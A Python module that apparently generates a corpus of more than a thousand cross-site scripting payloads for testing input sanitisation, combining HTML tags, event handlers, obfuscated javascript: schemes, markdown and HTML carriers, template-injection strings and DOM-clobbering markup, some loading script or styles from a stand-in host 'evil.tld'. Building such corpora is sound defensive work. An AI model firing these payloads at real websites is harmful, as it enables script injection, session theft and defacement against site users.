"""More than a thousand hostile texts (XSS-1), for every field and every outlet."""

from itertools import product

_CALLS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "import('//evil.tld')", "top.name=1")
_EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
_TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "math", "iframe", "x tabindex=1")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A&#x61;vascript:",
    "data:text/html,",
    "data:text/html;base64,",
    "vbscript:",
    "blob:",
    "ｊａｖａｓｃｒｉｐｔ:",
    "java\u200bscript:",
    "\u202ejavascript:",
    "feed:javascript:",
    "view-source:",
    "jar:",
)
_CARRIERS = (
    "{0}{1}",
    "<a href='{0}{1}'>x</a>",
    '<a href="{0}{1}">x</a>',
    "[x]({0}{1})",
    "![x]({0}{1})",
    "<{0}{1}>",
    "[x]: {0}{1}",
    "http://a.fr/{0}{1}",
    "https://{0}{1}",
    'http://a.fr/"{0}{1}',
    "http://a.fr/'onmouseover='{1}",
    "@{0}{1}",
    "- {0}{1}",
    "<form action={0}{1}><button>",
    "<object data={0}{1}>",
    "<meta http-equiv=refresh content=0;{0}{1}>",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "</p><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml?><x/>",
    "<base href=//evil.tld>",
    "<link rel=stylesheet href=//evil.tld>",
    "<style>*{background:url(//evil.tld)}</style>",
    "<img id=cookie name=forms>",
    "<form id=act><input name=csrfmiddlewaretoken>",
    "<a id=config name=config>",
    "<p style=position:fixed>",
    "<plaintext>",
    "<div hx-get=/compte/ hx-trigger=load>",
    "<div data-hx-on:load=alert(1)>",
    "<div hx-on::load=alert(1)>",
    "<p x-data=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)",
)
_WRAPS = ("{}", '"{}', "'{}", "\"'>{}", "</textarea>{}", "</title>{}", "-->{}", "]]>{}", "`{}", "a{}", "\n\n{}", "- {}")

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(carrier.format(scheme, call) for carrier, scheme, call in product(_CARRIERS, _SCHEMES, _CALLS[:2])),
            *(f"<{tag} {event}={call}>" for tag, event, call in product(_TAGS, _EVENTS, _CALLS)),
            *(wrap.format(markup) for wrap, markup in product(_WRAPS, _MARKUP)),
            *(wrap.format(f'" {event}={_CALLS[0]} x="') for wrap, event in product(_WRAPS, _EVENTS)),
        ]
    )
)
